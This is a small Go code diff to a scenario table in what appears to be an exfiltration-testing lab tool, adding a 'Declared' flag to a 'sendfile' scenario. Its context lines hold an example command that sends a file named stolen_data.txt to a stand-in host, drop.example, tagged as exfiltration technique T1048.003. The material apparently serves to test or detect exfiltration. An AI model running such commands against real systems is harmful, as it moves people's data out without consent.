@@ -13,7 +13,7 @@ func kernelPaths() []Scenario {
 			Name:      "sendfile",
 			Summary:   "HTTP PUT whose body goes by sendfile(2)",
 			Command:   `exfil-lab attack --to drop.example:80 --file stolen_data.txt sendfile`,
-			Technique: "T1048.003", Process: "/usr/bin/exfil-lab",
+			Technique: "T1048.003", Process: "/usr/bin/exfil-lab", Declared: true,
 		},
 		{
 			Name:      "splice",
